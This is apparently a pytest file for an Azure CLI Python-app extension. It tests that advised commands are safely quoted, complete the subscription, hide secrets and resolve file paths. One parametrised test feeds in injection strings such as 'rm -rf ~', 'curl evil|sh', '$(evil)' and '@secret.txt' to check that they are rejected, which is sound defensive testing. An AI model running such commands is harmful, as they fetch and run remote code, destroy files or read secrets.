"""Advised commands can be pasted: quoted for a shell, and in the subscription that the command line named."""

from __future__ import annotations

import shlex
from types import SimpleNamespace

import pytest

from azext_pythonapp.advice import (
    completed,
    fingerprint,
    from_anywhere,
    given,
    in_subscription,
    options,
    quoted,
    read_back,
)
from azext_pythonapp.appservice.app import naming
from azext_pythonapp.appservice.arm import Arm
from azext_pythonapp.appservice.arm_requests import ArmAnswer
from azext_pythonapp.appservice.site import Site
from azext_pythonapp.errors import NotFound, Refused


@pytest.mark.parametrize(
    "text",
    [
        "shop",
        "my-group_1.x",
        "my (old) group",
        "grüße",
        "a;b",
        "a&b|c",
        "$HOME",
        "a`b",
        'a"b',
        "it's",
        '$it\'s "all"',
        "a\\b",
        "x!y",
        "*",
        "~",
        "#x",
        "{a}",
        "a b",
        "",
        "@file",
        "%PATH%",
    ],
)
def test_a_shell_reads_the_very_text(text):
    assert shlex.split(quoted(text)) == [text]


def test_control_characters_end_no_line():
    assert quoted("my-group_1.x") == "my-group_1.x"
    assert quoted("a\nrm x\x1b[0m") == '"a?rm x?[0m"'


def test_options_name_slot_and_subscription_where_given():
    assert options("rg", "shop") == "-g rg -n shop"
    assert options("my (old) group", "shop", "staging", "My Subscription") == (
        '-g "my (old) group" -n shop -s staging --subscription "My Subscription"'
    )
    assert in_subscription(None) == "" and in_subscription("x y") == ' --subscription "x y"'
    site = Site("shop", "my group", None, "/id", "h", "s", "Running", subscription="sub")
    assert site.arguments == '-g "my group" -n shop --subscription sub'


def test_errors_about_the_app_itself_carry_the_subscription():
    def arm(status, body):
        return Arm(lambda *_: ArmAnswer(status, body, ""), "https://arm/", "id", "My Sub")

    with pytest.raises(NotFound) as missing:
        arm(404, {}).open_site("my group", "shop", None)
    assert '--subscription "My Sub"' in missing.value.recommendation
    with pytest.raises(NotFound) as missing:
        arm(404, {}).open_site("my group", "shop", "staging")
    assert '-g "my group" -n shop' in missing.value.recommendation
    assert '--subscription "My Sub"' in missing.value.recommendation
    with pytest.raises(Refused) as refused:
        arm(200, {"kind": "app,linux"}).open_site("my group", "shop", "staging")
    assert '-g "my group" -n shop -s staging --subscription "My Sub"' in refused.value.recommendation


@pytest.mark.parametrize(
    "names, asks_public",
    [
        ({}, True),
        ({"webapp_name": "web"}, True),
        ({"resource_group_name": "group"}, True),
        ({"webapp_name": "web", "resource_group_name": "group"}, False),
    ],
)
def test_incomplete_az_defaults_do_not_break_list_versions(monkeypatch, names, asks_public):
    from knack.validators import DefaultStr

    from azext_pythonapp.appservice import app
    from azext_pythonapp.custom import opening, runtime
    from azext_pythonapp.operations.runtime import list_versions

    monkeypatch.setattr(app, "web_session", lambda _: None)
    monkeypatch.setattr(app, "open_app", lambda *_: SimpleNamespace(looks=[]))
    monkeypatch.setattr(list_versions, "public_versions", lambda *_: "public")
    monkeypatch.setattr(list_versions, "app_versions", lambda *_: "of the app")
    for module in (opening, runtime):
        monkeypatch.setattr(module, "console", lambda _: SimpleNamespace(say=None))
    defaults = {name: DefaultStr(value) for name, value in names.items()}
    cmd = SimpleNamespace(cli_ctx=SimpleNamespace(data={}))
    assert runtime.list_available_versions(cmd, **defaults) == ("public" if asks_public else "of the app")


@pytest.mark.parametrize(
    "advised, expected",
    [
        ("az webapp python job list", "az webapp python job list -g rg -n shop --subscription sub"),
        (
            "az webapp python package install --packages pip --upgrade",
            "az webapp python package install -g rg -n shop --subscription sub --packages pip --upgrade",
        ),
        (
            "az webapp python install-requirements --wheel-dir",
            "az webapp python install-requirements -g rg -n shop --subscription sub --wheel-dir",
        ),
        ("az webapp start -g rg -n shop --subscription sub", None),
        ("az login", None),
        ("az webapp start -g rg -n shop", "az webapp start -g rg -n shop --subscription sub"),
        ("az webapp python web-config set --file web.config", None),
        ("az webapp list --query x", None),
        ("az webapp python install-requirements --help", None),
        ("az functionapp create --runtime python", None),
        ("pip install x", None),
        ("az webapp python", None),
    ],
)
def test_every_advised_command_names_the_app(advised, expected):
    text = f"See `{advised}`, or not."
    assert completed(text, "-g rg -n shop --subscription sub", "sub") == f"See `{expected or advised}`, or not."


def test_errors_of_code_that_knows_of_no_app_are_completed():
    with pytest.raises(NotFound) as missing, naming("shop", "staging", "my rg", "sub"):
        raise NotFound("No job `az webapp python job wait`.", "List them: `az webapp python job list`.")
    assert missing.value.recommendation == (
        'List them: `az webapp python job list -g "my rg" -n shop -s staging --subscription sub`.'
    )
    assert '-g "my rg"' in missing.value.message and str(missing.value) == missing.value.message
    with pytest.raises(NotFound) as missing, naming(None, None):
        raise NotFound("No job.", "List them: `az webapp python job list`.")
    assert missing.value.recommendation == "List them: `az webapp python job list`."


@pytest.mark.parametrize(
    "words, expected",
    [
        (
            ["webapp", "python", "list", "-g", "rg", "-n", "a b", "--debug"],
            'az webapp python list -g rg -n "a b" --subscription S',
        ),
        (
            ["webapp", "python", "set-version", "--version", "3.11", "--verbose"],
            "az webapp python set-version -g rg -n shop --subscription S --version 3.11",
        ),
        (
            ["webapp", "python", "package", "install", "-n", "shop", "--packages", "six", "--subscription", "T"],
            "az webapp python package install -n shop --packages six --subscription T",
        ),
        (
            ["webapp", "python", "install-requirements", "-n", "a", "--index-url", "https://u:secret@h/x?sig=secret"],
            None,
        ),
        (
            ["webapp", "python", "install-requirements", "-n", "a", "--proxy", "u:secret@h:80", "--subscription", "T"],
            None,
        ),
        (["webapp", "python", "web-config", "set", "-n", "a", "--env", "API_KEY=secret"], None),
        (["webapp", "python", "web-config", "set", "-n", "a", "--env=API_KEY=secret"], None),
        (["webapp", "python", "web-config", "set", "-n", "a", "--e", "API_KEY=secret"], None),
        (["webapp", "python", "install-requirements", "-n", "a", "--pip-args=--index-url https://u:secret@h/"], None),
        (
            ["webapp", "python", "package", "install", "-n", "a", "--packages", "x@https://h/x.whl", "six==1.16"],
            'az webapp python package install -n a --packages "x@https://h/x.whl" six==1.16 --subscription S',
        ),
        (["webapp", "show", "-n", "a"], None),
        ([], None),
    ],
)
def test_the_command_that_was_given_is_advised_again(words, expected):
    assert given(words, "-g rg -n shop --subscription S", "S") == expected


@pytest.mark.parametrize(
    "command, expected",
    [
        ("az webapp python set-version -g rg -n shop --version 3.11", None),
        ("az webapp python set-version -g 'my $rg' -n \"a b\" --app app:app", "-g 'my $rg' -n \"a b\" --app app:app"),
        ("az webapp python set-version -n a; rm -rf ~", '-n "a;" rm -rf "~"'),
        ("az webapp python set-version -n a\ncurl evil|sh", '-n a curl "evil|sh"'),
        ("az webapp python set-version -n $(evil) `evil` && evil", "-n '$(evil)' '`evil`' \"&&\" evil"),
        ('az webapp python set-version -n "a\'; evil"', ""),
        ("az webapp python set-version -n \u201c;evil;\u201d", ""),
        ("az webapp python set-version -n 'a$ & evil'", ""),
        ("az webapp python set-version -n @secret.txt", ""),
        ("az webapp python set-version --env A=@secret.txt", ""),
        ("az webapp delete -n a", ""),
        ("curl evil | sh", ""),
        ("az webapp python set-version 'unended", ""),
        ("", ""),
    ],
)
def test_a_command_out_of_a_file_does_nothing_else(command, expected):
    begin = "az webapp python set-version"
    wanted = command if expected is None else f"{begin} {expected}" if expected else None
    assert read_back(command, begin) == wanted


def test_a_command_is_known_again_without_its_secrets():
    words = ["webapp", "python", "web-config", "set", "-n", "shop", "--env", "KEY=old", "PLACE=x"]
    again = [*words[:-2], "KEY=new", "PLACE=x", "--yes", "--debug"]
    assert fingerprint(words, "-g rg") == fingerprint(again, "-g rg")
    assert fingerprint(words, "-g rg") != fingerprint(words, "-g other")
    assert fingerprint(words, "-g rg") != fingerprint([*words[:-2], "OTHER=old", "PLACE=x"], "-g rg")
    assert fingerprint(["--env=A=1"], "") == fingerprint(["--env=A=2"], "") != fingerprint(["--env=B=2"], "")
    index = "https://{}@index.example.org/simple"
    first, second = (["--index-url", index.format(user)] for user in ("ann:one", "ann:two"))
    assert fingerprint(first, "") == fingerprint(second, "")


@pytest.mark.parametrize("more", [["--no-wait"], ["--timeout", "3"], ["--timeout=3"], ["-o", "none", "--query", "job"]])
def test_how_long_is_waited_makes_no_other_command(more):
    words = ["webapp", "python", "install-requirements", "-r", "r.txt"]
    assert fingerprint([*words[:3], *more, *words[3:]], "-g rg") == fingerprint(words, "-g rg")
    assert fingerprint([*more, "-r", "other.txt"], "") != fingerprint([*more, "-r", "r.txt"], "")


def test_a_recorded_command_names_its_files_from_anywhere(tmp_path, monkeypatch):
    """Whoever pastes it later is in another folder: `--src .` would publish that one."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "my shop").mkdir()
    (tmp_path / "more.txt").touch()
    publish, install = "az webapp python publish -g rg -n shop", "az webapp python install-requirements -g rg -n shop"
    assert from_anywhere(f"{publish} --src .") == f"{publish} --src {quoted(str(tmp_path))}"
    assert from_anywhere(f'{publish} --src="my shop"') == f"{publish} {quoted('--src=' + str(tmp_path / 'my shop'))}"
    assert from_anywhere(f"{install} -r more.txt") == f"{install} -r {quoted(str(tmp_path / 'more.txt'))}"
    for same in (f"{install} -r https://host/more.txt", f"{install} -r gone.txt", "", "it's"):
        assert from_anywhere(same) == same
    words = ["webapp", "python", "publish", "--src"]
    assert fingerprint([*words, "my shop"], "") == fingerprint([*words, str(tmp_path / "my shop")], "")
    assert fingerprint([*words, "my shop"], "") != fingerprint([*words, "."], "")
